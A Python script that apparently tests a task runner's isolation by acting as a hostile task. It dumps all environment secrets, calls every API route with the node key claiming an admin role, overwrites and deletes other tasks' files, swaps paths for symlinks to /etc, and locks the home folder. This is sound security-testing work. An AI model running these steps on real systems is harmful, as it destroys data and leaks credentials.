"""What a hostile task can try: every route, every path below its home, every socket of an engine.

A task runs it as a program, with a file ``targets.json`` beside it; what came of it is written to
``attack.json`` in the task's own folder. Runs on Python 3.9, with the standard library.

The targets name everything that the task could have guessed: the routes, ids of other tasks, nodes,
files and keys, and paths on the host.
"""

from __future__ import annotations

import http.client
import json
import os
import re
import shutil
import stat
from contextlib import suppress
from urllib.parse import quote, urlsplit

TYPE_CHECKING = False  # typing's own takes too long to import
if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from typing import Any

HOME = os.environ.get("VICTORIA_HOME", "/workspace/Victoria")
TASKS = os.path.join(HOME, "tasks")
OWN = os.path.join(TASKS, os.environ.get("JOB_ID", "unnamed"))
MARK = "taken over"
CALL_TIMEOUT_S = 20


def main() -> None:
    folder = os.environ["TASK_FILES_DIR"]
    name = next(name for name in os.listdir(folder) if name.endswith("targets.json"))
    with open(os.path.join(folder, name), encoding="utf-8") as file:
        targets = json.load(file)
    seen = sorted(os.path.relpath(path, HOME) for path in everything_below(HOME))
    report = {
        "environment": dict(os.environ),
        "seen": seen,
        "read": [path for path in seen if is_readable(os.path.join(HOME, path))],
        "calls": list(call_all(targets)),
        "sockets": [path for path in everything_below("/") if is_socket(path)],
        "engines": [name for name in ("podman", "docker") if shutil.which(name)],
    }
    with open(os.path.join(OWN, "attack.json"), "w", encoding="utf-8") as file:
        json.dump(report, file)
    attack_other_tasks(targets["others"])
    attack_own_folder(targets["paths"])
    attack_home()


def everything_below(top: str) -> Iterator[str]:
    for parent, folders, names in os.walk(top):
        if parent == "/":
            folders[:] = sorted({*folders} - {"proc", "sys"})
        yield from (os.path.join(parent, name) for name in (*folders, *names))


def is_socket(path: str) -> bool:
    with suppress(OSError):
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    return False


def call_all(targets: dict[str, Any]) -> Iterator[tuple[str, str, int]]:
    """Yield the method, path and status code of each call, with each id in turn."""
    for method, template in targets["routes"]:
        names = re.findall(r"{(\w+)(?::\w+)?}", template)
        has_no_id = method in {"GET", "HEAD"} and not names
        for other in targets["others"][: 1 if has_no_id else None]:
            ids = {name: targets["ids"].get(name, [other]) for name in names}
            for number in range(max([1, *map(len, ids.values())])):
                path = template
                for name in names:
                    chosen = quote(ids[name][number % len(ids[name])])
                    path = re.sub(f"{{{name}(:\\w+)?}}", chosen, path)
                nodes = targets["ids"]["node_id"]
                body = {"task_id": other, "job_id": other, "node_id": nodes[number % len(nodes)]}
                yield method, template, call(targets["url"], method, path, body)


def call(url: str, method: str, path: str, ids: dict[str, str]) -> int:
    """Return the status code; the body has what any of the routes could ask for."""
    key = os.environ["NODE_API_KEY"]
    body: dict[str, object] = dict.fromkeys(("name", "prompt", "message", "hostname"), MARK)
    body |= {"status": "success", "role": "admin", "os_type": "linux", **ids}
    body |= {"session": {"id": MARK, "messages": []}}
    headers = {"X-API-Key": key, "X-Registration-Token": key, "Authorization": f"Bearer {key}"}
    headers["Content-Type"] = "application/json"
    address = urlsplit(url)
    connection = http.client.HTTPConnection(
        str(address.hostname), address.port, timeout=CALL_TIMEOUT_S
    )
    try:
        connection.request(method, path, None if method == "GET" else json.dumps(body), headers)
        return connection.getresponse().status
    finally:
        connection.close()


def attack_other_tasks(others: list[str]) -> None:
    """Replace `tasks`, and what is in it, in every way."""
    for other in others:
        folder = os.path.join(TASKS, other)
        for path in (folder, f"{folder}/files", f"{folder}/reporter.json", f"{folder}/result.txt"):
            overwrite(path)
            replace(path)
    with suppress(OSError):
        os.mkdir(os.path.join(TASKS, MARK))
    for path in (os.path.join(TASKS, ".homes"), OWN, TASKS):
        replace(path)


def attack_own_folder(paths: list[str]) -> None:
    """Change the files that the runner has checked, and leave links to paths on the host."""
    files = os.path.join(OWN, "files")
    for path in [*everything_below(files), files]:
        overwrite(path)
        replace(path)
    for number, path in enumerate(paths):
        with suppress(OSError):
            os.symlink(path, os.path.join(OWN, f"link-{number}"))
        with suppress(OSError):
            os.symlink(path, os.path.join(OWN, "reporter.json"))


def attack_home() -> None:
    """Overwrite every file outside of `tasks`, add one, and close the home."""
    for path in list(everything_below(HOME)):
        if os.path.relpath(path, HOME).partition("/")[0] != "tasks":
            overwrite(path)
    overwrite(os.path.join(HOME, "planted.txt"))
    with suppress(OSError):
        os.chmod(HOME, 0)


def overwrite(path: str) -> None:
    with suppress(OSError), open(path, "w", encoding="utf-8") as file:
        file.write(MARK)


def replace(path: str) -> None:
    """Move away what is at a path, remove it, make it inaccessible, and put a link there."""
    acts: tuple[Callable[[], object], ...] = (
        lambda: os.rename(path, f"{path}-before"),
        lambda: os.unlink(path),
        lambda: os.rmdir(path),
        lambda: os.chmod(path, 0) if path != OWN else None,
        lambda: os.symlink("/etc", path),
    )
    for act in acts:
        with suppress(OSError):
            act()


def is_readable(path: str) -> bool:
    with suppress(OSError), open(path, "rb") as file:
        return bool(file.read(1))
    return False


if __name__ == "__main__":
    main()
